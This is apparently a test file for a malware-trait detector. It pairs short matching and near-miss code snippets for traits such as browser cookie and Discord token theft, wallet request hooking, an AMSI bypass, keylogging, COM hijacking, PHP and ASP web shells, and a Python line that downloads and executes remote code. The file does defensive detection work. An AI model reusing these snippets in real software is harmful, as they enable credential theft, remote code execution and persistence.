// Traits by name: texts that show one and at least as many that come close. Addresses are reserved ones.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readScript } from '../../../src/file/formats/script/read.ts'
import { type Cases, testTraits } from './trait-table.ts'

const METAMASK = 'nkbihfbeogaeaoehlefnkodbefgpgknn'
const PHANTOM = 'bfnaelmomeimhlpmgjnjophhpkkoljpa'
const CLASS = 'Software\\Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32'

const TRAITS: Readonly<Record<string, Cases>> = {
  cookies_of_sites_taken: {
    hits: {
      'one site after another': [
        'javascript',
        'for (const d of ["mail.example", "bank.example"]) { const c = await chrome.cookies.getAll({ domain: d }); out.push(...c.map(x => x.name + "=" + x.value)) }',
      ],
    },
    misses: {
      'deletes those of a list': [
        'javascript',
        'for (const d of ["ads.example", "spy.example"]) { for (const c of await chrome.cookies.getAll({ domain: d })) chrome.cookies.remove({ url: "https://" + d, name: c.name }) }',
      ],
      'of the page that is open': [
        'javascript',
        'const c = await chrome.cookies.getAll({ url: tab.url }); for (const x of c) row.textContent = x.value',
      ],
    },
  },
  chat_tokens_taken: {
    hits: {
      'out of the chat program itself': [
        'javascript',
        'w.executeJavaScript("(webpackChunkdiscord_app.push([[\'\'],{},e=>{m=[];for(let c in e.c)m.push(e.c[c])}]),m).find(m=>m?.exports?.default?.getToken).exports.default.getToken()")',
      ],
    },
    misses: {
      'adds a plug-in to it': ['javascript', 'webpackChunkdiscord_app.push([[Symbol()], {}, r => plugins.load(r)])'],
    },
  },
  machine_profiled: {
    hits: {
      'who and where, and its name servers': [
        'javascript',
        'const d = JSON.stringify({ c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers() })',
      ],
    },
    misses: {
      'a hash of both, for statistics': [
        'javascript',
        'const id = createHash("sha256").update(os.hostname() + os.userInfo().username).digest("hex"); send({ id, p: os.platform() })',
      ],
    },
  },
  wallet_requests_hooked: {
    hits: {
      'its own function before that of the wallet': [
        'javascript',
        'const rq = window.ethereum.request; window.ethereum.request = async q => { q.params[0].to = own; return rq(q) }',
      ],
    },
    misses: {
      'asks the wallet': ['javascript', 'const a = await window.ethereum.request({ method: "eth_requestAccounts" })'],
    },
  },
  rundll32_odd_file: {
    hits: {
      'an ordinal of a data file': ['batch', 'rundll32 .\\thumbs.db,#1'],
      'put together by the shell that it is in': [
        'batch',
        'cmd /v:on /c "set a=rundll&set b=32&!a!!b! .\\thumbs.db,#1 & start ."',
      ],
      'a name of a picture': ['batch', 'start rundll32.exe "C:\\ProgramData\\a.png",Start'],
    },
    misses: {
      'a printer is installed': ['batch', 'rundll32 printui.dll,PrintUIEntry /in /n \\\\print\\hp'],
      'a panel': ['batch', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl,,1'],
      'by the name of a library alone': ['batch', 'rundll32 user32,LockWorkStation'],
    },
  },
  msiexec_remote: {
    hits: {
      'from an address': ['batch', 'msiexec /i https://files.example/a.msi /qn'],
      'from a share of the internet': ['vbscript', 'sh.Run "msiexec /i \\\\files.example\\a.msi /qn"'],
    },
    misses: {
      'from the server of the office': ['vbscript', 'sh.Run "msiexec /i \\\\fs01\\netlogon\\agent.msi /qn", 0, True'],
      'from the disk': ['batch', 'msiexec /i C:\\setup\\agent.msi /qn'],
    },
  },
  ps_amsi_bypass: {
    hits: {
      'by a search through all types': [
        'powershell',
        '$t=[Ref].Assembly.GetTypes();foreach($b in $t){if($b.Name -like "*iUtils"){$c=$b}};$f=$c.GetFields("NonPublic,Static")',
      ],
    },
    misses: {
      'types of a module': ['powershell', '[Ref].Assembly.GetTypes() | Where-Object IsPublic | Select-Object Name'],
    },
  },
  ps_iex_by_letters: {
    hits: {
      'asked for by a pattern': ['powershell', '$t = "1+1"; &(Get-Alias ie*) $t'],
      'by its name, which a pattern found': ['powershell', '$t | &((gcm i*x).Name)'],
    },
    misses: {
      'aliases are listed': ['powershell', 'Get-Alias i* | Format-Table'],
      'a program is looked for': ['powershell', '& (Get-Command git).Source status'],
    },
  },
  runs_commands_from_socket: {
    hits: {
      'line by line': [
        'python',
        "for line in s.makefile():\n  m = json.loads(line)\n  o = subprocess.run(m['c'], shell=True, capture_output=True)\n  s.sendall(o.stdout)",
      ],
    },
    misses: {
      'a fixed command': [
        'python',
        "for line in s.makefile():\n  o = subprocess.run(['uptime'], capture_output=True)\n  s.sendall(o.stdout)",
      ],
    },
  },
  keylogging: {
    hits: {
      'AutoHotkey, one key after the other': ['autoit', 'Loop {\n Input, k, L1 V I\n buf .= k\n}'],
      'AutoHotkey, by an object': ['autoit', 'ih := InputHook("L1 V")'],
    },
    misses: {
      'a command that waits for one key': ['autoit', 'Input, key, L1 T2\nif (key = "q")\n ExitApp'],
      'a question': ['autoit', 'InputBox, name, Who are you?'],
    },
  },
  wallet_extensions_named: {
    hits: { 'two of them': ['javascript', `const ids = ["${METAMASK}", "${PHANTOM}"]`] },
    misses: {
      'one wallet': ['javascript', `const id = "${METAMASK}"`],
      'one of them twice': ['javascript', `const a = "${METAMASK}", b = "${METAMASK}"`],
    },
  },
  com_class_replaced: {
    hits: {
      'by a macro': ['vba', `r.SetStringValue &H80000001, "${CLASS}", "", Environ("APPDATA") & "\\a.dll"`],
      'on a command line': ['batch', `reg add "HKCU\\${CLASS}" /ve /d "%APPDATA%\\a.dll" /f`],
    },
    misses: {
      'an add-in of a program folder': ['batch', `reg add "HKCU\\${CLASS}" /ve /d "C:\\Program Files\\A\\a.dll" /f`],
      'a class is read': ['batch', `reg query "HKLM\\${CLASS}"`],
    },
  },
  jxa_runs_answer: {
    hits: {
      'what an address holds is evaluated': [
        'javascript',
        'ObjC.import("Foundation"); eval(ObjC.unwrap($.NSString.alloc.initWithDataEncoding($.NSData.dataWithContentsOfURL($.NSURL.URLWithString("https://c.example/a")), 4)))',
      ],
    },
    misses: {
      'a feed is shown': [
        'javascript',
        'const d = $.NSData.dataWithContentsOfURL($.NSURL.URLWithString("https://news.example/feed")); app.displayDialog(ObjC.unwrap(d))',
      ],
    },
  },
  text_out_of_document: {
    hits: {
      'a property': ['vba', 'p = ThisWorkbook.BuiltinDocumentProperties("Comments").Value'],
      'a description of a picture': ['vba', 's = ActiveSheet.Shapes("Picture 1").AlternativeText'],
      'a control': ['vba', 'c = UserForm1.TextBox1.Text'],
    },
    misses: {
      'a cell': ['vba', 'v = Range("A1").Text'],
      'a title is set for a window': ['vba', 'Application.Caption = "Budget"'],
      'a selection': ['vba', 's = Selection.Text'],
    },
  },
  web_shell: {
    hits: {
      'a function that the request names': ['php', "<?php $f = $_GET['0']; $f($_GET['1']); ?>"],
      'what a function of a hidden name decoded': [
        'php',
        "<?php $k = str_rot13('onfr64_qrpbqr'); $z = $k($_POST['d']); @assert($z);",
      ],
      'inside a condition, its decoder turned round': [
        'php',
        "<?php $k=str_rot13('onfr64_qrpbqr');\nif(isset($_COOKIE['q'])&&md5($_COOKIE['q'])=='5f4d'){ $z=$k($_POST['d']); @assert($z); }",
      ],
      'what was posted, deciphered and kept': [
        'php',
        "<?php $d = x(base64_decode($_POST['p']), $key); if (isset($_SESSION['a'])) { $c = x($_SESSION['a'], $key); eval($c); }",
      ],
      'a command of a page of the old kind': [
        'vbscript',
        'Set s = CreateObject("WScript.Shell")\nSet c = s.Exec("cmd /c " & Request("c"))',
      ],
    },
    misses: {
      'a handler that is looked up': ['php', "<?php $name = $_GET['page']; $routes[$name]($request);"],
      'a value that is checked': ['php', "<?php $id = $_GET['id']; assert(is_numeric($id)); show((int) $id);"],
      'a picture that was posted': [
        'php',
        "<?php $i = imagecreatefromstring(base64_decode($_POST['p'])); imagepng($i);",
      ],
      'a template': ['php', '<?php $t = load($_GET["t"]); echo render($t);'],
      'a page that starts a fixed program': [
        'vbscript',
        'Set c = s.Exec("ipconfig /all")\nResponse.Write Request("title")',
      ],
    },
  },
  page_deciphers_itself: {
    hits: {
      'with the library': [
        'javascript',
        'const d = CryptoJS.AES.decrypt(e, k).toString(CryptoJS.enc.Utf8); document.write(d)',
      ],
    },
    misses: {
      'a message that is shown in its place': [
        'javascript',
        'const d = CryptoJS.AES.decrypt(e, k).toString(CryptoJS.enc.Utf8); note.textContent = d',
      ],
    },
  },
  script_source_decoded: {
    hits: {
      'on the spot': [
        'javascript',
        'var e = document.createElement("script"); e.async = 1; e.src = window.atob("aHR0cHM6Ly94LmV4YW1wbGUv") + id; head.appendChild(e)',
      ],
    },
    misses: {
      'in the open': [
        'javascript',
        'var e = document.createElement("script"); e.src = "https://cdn.example/a.js"; head.appendChild(e)',
      ],
      'a picture': [
        'javascript',
        'var i = document.createElement("img"); i.src = "data:image/png;base64," + btoa(bytes)',
      ],
    },
  },
  visitor_chosen: {
    hits: {
      'who is not signed in': ['javascript', 'if (document.cookie.indexOf("wordpress_logged") < 0) go()'],
      'who comes from elsewhere': ['javascript', "if (x.referrer.split('/')[2] !== location.host) go()"],
    },
    misses: {
      'a cookie of its own': ['javascript', 'if (document.cookie.indexOf("consent=1") < 0) ask()'],
      'a referrer that is counted': ['javascript', 'send({ from: document.referrer })'],
    },
  },
  object_of_computed_name: {
    hits: { 'run at once': ['vba', 'CreateObject(k).Run p, 0'] },
    misses: {
      'a name that stands there': ['vba', 'CreateObject("Excel.Application").Visible = True'],
    },
  },
}

testTraits(TRAITS)

test('base64 written backwards is read, its padding in front', () => {
  const plain = `import os\nexec(__import__('urllib.request').request.urlopen('http://203.0.113.7/a.py').read())\n# ${'x'.repeat(7)}`
  const turned = [...Buffer.from(plain).toString('base64')].reverse().join('')
  assert.match(turned, /^=/)
  const { urls } = readScript(`exec((_)(b'${turned}'))`, 'python').facts
  assert.deepEqual(urls, ['http://203.0.113.7/a.py'])
})
